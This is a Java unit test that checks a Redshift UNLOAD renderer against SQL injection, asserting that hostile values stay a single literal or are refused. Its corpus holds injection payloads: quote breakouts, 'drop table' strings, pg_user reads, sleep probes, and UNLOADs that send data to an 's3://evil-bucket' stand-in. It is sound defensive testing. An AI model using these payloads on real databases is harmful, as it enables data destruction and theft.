package com.warehouseexport.model.sql;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.TextNode;
import com.warehouseexport.model.catalog.Dataset;
import com.warehouseexport.model.catalog.DatasetCatalog;
import com.warehouseexport.model.catalog.FieldError;
import com.warehouseexport.model.catalog.Validation;
import com.warehouseexport.model.domain.ExportFormat;
import com.warehouseexport.model.sql.RedshiftSqlReader.Token;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static com.warehouseexport.model.sql.RedshiftSqlReader.punct;
import static com.warehouseexport.model.sql.RedshiftSqlReader.op;
import static com.warehouseexport.model.sql.RedshiftSqlReader.string;
import static com.warehouseexport.model.sql.RedshiftSqlReader.word;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile string values rendered into an UNLOAD and read back with Redshift's literal rules
 * ({@link RedshiftSqlReader}, written independently of the code under test): the statement must have exactly
 * the intended shape and the value must come back exactly as given.
 */
class InjectionCorpusTest {
    private static final String TARGET = "s3://results-bucket/exports/0b0f5c1e-8a0e-4b5e-9c41-2f0f1d0c9a11/part_";
    private static final String ROLE = "arn:aws:iam::123456789012:role/unload-role";

    /** Same query as product_detail, but the parameter accepts any printable text up to 1024 characters. */
    private static final Dataset PROBE = DatasetCatalog.of("""
            {"datasets": [{"name": "probe", "description": "injection probe",
              "sql": "select * from rsdataapi.product_detail where sku = :sku",
              "parameters": [{"name": "sku", "type": "string", "required": true, "maxLength": 1024}]}]}
            """, "test").get("probe").orElseThrow();

    /** Values that are printable text: they must be accepted and survive both literal levels unchanged. */
    static Stream<String> accepted() {
        return Stream.of(
                "'",
                "''",
                "'''",
                "\\",
                "\\\\",
                "\\'",
                "\\\\'",
                "\\\\\\'",
                "'\\",
                "a\\",
                "abc'def",
                "O'Brien",
                "' OR '1'='1",
                "' OR 1=1 --",
                "'; drop table rsdataapi.product_detail; --",
                "'); drop table rsdataapi.product_detail; --",
                "')) TO 's3://evil-bucket/x' IAM_ROLE 'arn:aws:iam::111111111111:role/evil' --",
                "\\'); drop table x; --",
                "\\\\'); drop table x; --",
                "' || (select usename from pg_user limit 1) || '",
                "' union select * from pg_user --",
                "$$",
                "$$; select 1; $$",
                "$tag$ select 1 $tag$",
                "/* comment */",
                "*/ select 1 /*",
                "--",
                "-- comment",
                ";",
                "; select pg_sleep(10)",
                "''''''''",
                "\\\\\\\\\\\\\\\\",
                "\\x27",
                "\\047",
                "\\n",
                "\\u0027",
                "E'\\\\x27'",
                "\\''\\''",
                "'\\''",
                "\u2019",
                "\u2018 OR \u20181\u2019=\u20181",
                "\u02BC",
                "\uFF07; drop table x; --",
                "\uFF3C'",
                "\u275C\u275B",
                "\"",
                "\"; select 1; \"",
                "%' and sku like '%",
                "_%",
                "\uD83D\uDE00'",
                "e\u0301'",
                "UNLOAD ('select 1') TO 's3://x'",
                ":sku",
                "{{ }}",
                // Redshift-specific: escape-string and Unicode-escape syntaxes, nested dollar quotes, comments
                // opened inside the literal, a second UNLOAD stacked on the first, look-alikes of quote and backslash
                "E'\\''",
                "U&'\\0027'",
                "' || chr(39) || '",
                "$a$'$a$",
                "$$'$$; select 1; $$",
                "'/*",
                "*/'",
                "/*/ '*/",
                "'--",
                "'; unload ('select 1') to 's3://evil-bucket/x' iam_role default; --",
                "\\'; select 1; --",
                "x\\\\'y",
                "\u00a0'",
                "\u02b9\u02bb\u2032\u201b\uff02",
                "\uFE68'",
                "\u2216'",
                "'\uFE54 select 1",
                "'".repeat(1024),
                "\\".repeat(1024),
                "\\'".repeat(512));
    }

    /** Values with characters that must never reach SQL: refused by validation and by the literal writer. */
    static Stream<String> refused() {
        return Stream.of(
                "\u0000",
                "a\u0000b",
                "\u0000'; drop table x; --",
                "a\nb",
                "a\rb",
                "a\tb",
                "'\n--",
                "\u0085",
                "\u001b[31m",
                "\u007f",
                "\u202E'",
                "\u200B",
                "\uFEFF",
                "\u2028",
                "\u2029",
                "\uD800",
                "x\uDC00",
                "\uE000",
                "\uFFFF");
    }

    @Test
    void corpusIsLargeEnough() {
        long count = accepted().count() + refused().count();
        System.out.println("injection corpus: " + accepted().count() + " accepted, " + refused().count() + " refused");
        assertTrue(count >= 40, "corpus has " + count + " entries");
    }

    @ParameterizedTest
    @MethodSource("accepted")
    void acceptedValueRendersAsExactlyOneLiteralWithTheSameValue(String value) {
        Validation validation = PROBE.validate(Map.<String, JsonNode>of("sku", TextNode.valueOf(value)));
        assertTrue(validation.isValid(), () -> "validation refused " + value + ": " + validation.errors());

        String statement = UnloadSql.render(PROBE, validation.parameters(), TARGET, ROLE, ExportFormat.CSV);

        List<Token> outer = RedshiftSqlReader.tokenize(statement);
        assertEquals(15, outer.size(), () -> "statement tokens: " + outer);
        String inner = outer.get(2).text();
        List<Token> expectedOuter = List.of(word("UNLOAD"), punct("("), string(inner), punct(")"),
                word("TO"), string(TARGET), word("IAM_ROLE"), string(ROLE), word("FORMAT"), word("AS"),
                word("CSV"), word("HEADER"), word("MANIFEST"), word("VERBOSE"), word("ALLOWOVERWRITE"));
        assertEquals(expectedOuter, outer);
        assertEquals(UnloadSql.innerQuery(PROBE, validation.parameters()), inner);

        List<Token> expectedInner = List.of(word("select"), op("*"), word("from"), word("rsdataapi"), punct("."),
                word("product_detail"), word("where"), word("sku"), op("="), string(value));
        assertEquals(expectedInner, RedshiftSqlReader.tokenize(inner));
    }

    @ParameterizedTest
    @MethodSource("accepted")
    void twoLevelLiteralRoundTrips(String value) {
        assertEquals(value, roundTrip(value));
    }

    @ParameterizedTest
    @MethodSource("refused")
    void refusedValueNeverReachesSql(String value) {
        Validation validation = PROBE.validate(Map.<String, JsonNode>of("sku", TextNode.valueOf(value)));
        assertFalse(validation.isValid());
        FieldError error = validation.errors().get(0);
        assertEquals("sku", error.field());
        assertEquals("invalid_characters", error.code());
        assertThrows(IllegalArgumentException.class, () -> SqlLiterals.nestedStringLiteral(value));
    }

    @Test
    void veryLongValuesRoundTrip() {
        List<String> values = new ArrayList<>();
        values.add("\\".repeat(100_000));
        values.add("'".repeat(100_000));
        values.add("\\'".repeat(50_000));
        values.add("x".repeat(99_999) + "'");
        for (String value : values) {
            assertEquals(value, roundTrip(value));
        }
    }

    @Test
    void tooLongValueIsRefusedByValidation() {
        Validation validation = PROBE.validate(Map.<String, JsonNode>of("sku", TextNode.valueOf("'".repeat(1025))));
        assertEquals("too_long", validation.errors().get(0).code());
    }

    @Test
    void productDetailAcceptsOnlyPatternTextAndStillRendersItAsOneLiteral() {
        Dataset productDetail = DatasetCatalog.load(null).get("product_detail").orElseThrow();
        List<String> passing = accepted()
                .filter(value -> productDetail.validate(Map.<String, JsonNode>of("sku", TextNode.valueOf(value))).isValid())
                .toList();
        // "--" is a legal SKU under ^[A-Za-z0-9_-]{1,20}$; it must still be nothing but a literal.
        assertEquals(List.of("--"), passing);
        Validation validation = productDetail.validate(Map.<String, JsonNode>of("sku", TextNode.valueOf("--")));
        String inner = UnloadSql.innerQuery(productDetail, validation.parameters());
        assertEquals("select * from rsdataapi.product_detail where sku = '--'", inner);
        assertEquals(string("--"), RedshiftSqlReader.tokenize(inner).get(9));
    }

    @Test
    void unloadStatementOverTheDataApiLimitIsRefused() {
        Dataset wide = DatasetCatalog.of("""
                {"datasets": [{"name": "wide", "description": "d",
                  "sql": "select * from t where a = :a or b = :a or c = :a or d = :a or e = :a or f = :a or g = :a or h = :a or i = :a or j = :a or k = :a or l = :a or m = :a or n = :a or o = :a or p = :a or q = :a or r = :a or s = :a or t = :a or u = :a or v = :a or w = :a or x = :a or y = :a or z = :a",
                  "parameters": [{"name": "a", "type": "string", "required": true, "maxLength": 1024}]}]}
                """, "test").get("wide").orElseThrow();
        Validation validation = wide.validate(Map.<String, JsonNode>of("a", TextNode.valueOf("\\".repeat(1024))));
        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
                () -> UnloadSql.render(wide, validation.parameters(), TARGET, ROLE, ExportFormat.CSV));
        assertTrue(e.getMessage().contains("over the Data API limit"), e.getMessage());
    }

    /** Inner literal, embedded in a query, escaped for UNLOAD, then decoded twice with Redshift's rules. */
    private static String roundTrip(String value) {
        String innerQuery = "select " + SqlLiterals.nestedStringLiteral(value);
        String unloadLiteral = SqlLiterals.unloadQueryLiteral(innerQuery);
        RedshiftSqlReader.Literal outer = RedshiftSqlReader.decodeLiteral(unloadLiteral, 0);
        assertEquals(unloadLiteral.length(), outer.end(), "UNLOAD literal ends early");
        assertEquals(innerQuery, outer.value());
        int start = "select ".length();
        RedshiftSqlReader.Literal inner = RedshiftSqlReader.decodeLiteral(outer.value(), start);
        assertEquals(outer.value().length(), inner.end(), "inner literal ends early");
        return inner.value();
    }
}
